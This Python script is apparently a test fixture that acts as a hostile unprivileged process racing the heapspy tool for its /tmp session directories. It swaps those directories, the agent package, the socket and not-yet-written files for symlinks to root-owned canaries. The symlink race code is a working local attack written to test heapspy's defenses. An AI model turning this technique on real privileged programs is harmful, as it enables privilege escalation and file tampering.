"""A hostile target: races heapspy for the agent's directory in its own /tmp.

Usage: racer.py CANARY_FILE CANARY_DIR
Run as an unprivileged user. The main process idles in short sleeps (so that a pending
call or a PEP 768 request runs within milliseconds); a forked child, the same user,
watches ``/tmp`` in a tight loop for the directories heapspy makes for its parent
(``heapspy-PARENT-*``) and, one attack per directory in turn, swaps in symlinks to the
root-owned canaries: the session directory itself, the agent package, the socket, and
(before heapspy creates them) the files. Prints "READY <pid>" once the racer runs;
each successful swap prints a line on stderr. The parent is killed by the test, the
racer dies with it (it checks its parent).
"""

import os
import sys
import time


def attack(d, mode, canary_file, canary_dir):
    """One attempt of attack ``mode`` on session directory ``d``; True once done."""
    try:
        if mode == 0:  # the session directory itself
            os.rename(d, d + ".moved")
            os.symlink(canary_dir, d)
            return True
        if mode == 1:  # the agent package
            pkg = os.path.join(d, "heapspy_agent")
            if os.path.isdir(pkg) and not os.path.islink(pkg):
                os.rename(pkg, os.path.join(d, "pkg.moved"))
                os.symlink(canary_dir, pkg)
                return True
            return False
        if mode == 2:  # the socket
            sock = os.path.join(d, "agent.sock")
            if os.path.lexists(sock) and not os.path.islink(sock):
                os.rename(sock, os.path.join(d, "sock.moved"))
                os.symlink(canary_file, sock)
                return True
            return False
        # the files, before heapspy writes them
        done = False
        for name in ("config.json", "boot.py", "agent.sock", "heapspy_agent/__init__.py"):
            try:
                os.symlink(canary_file, os.path.join(d, name))
                done = True
            except OSError:  # noqa: PERF203 - each name on its own
                pass
        return done
    except OSError:
        return False


def race(parent, canary_file, canary_dir):
    prefix = f"heapspy-{parent}-"
    seen = {}
    count = 0
    while os.getppid() == parent:
        try:
            names = os.listdir("/tmp")
        except OSError:
            continue
        for name in names:
            if not name.startswith(prefix) or name.endswith(".moved"):
                continue
            if name not in seen:
                seen[name] = [count % 4, False]
                count += 1
            state = seen[name]
            if not state[1] and attack("/tmp/" + name, state[0], canary_file, canary_dir):
                state[1] = True
                sys.stderr.write(f"swapped {name} (attack {state[0]})\n")
                sys.stderr.flush()


def main():
    canary_file, canary_dir = sys.argv[1], sys.argv[2]
    parent = os.getpid()
    if os.fork() == 0:
        try:
            race(parent, canary_file, canary_dir)
        finally:
            os._exit(0)
    print(f"READY {parent}", flush=True)
    while True:
        time.sleep(0.005)


if __name__ == "__main__":
    main()
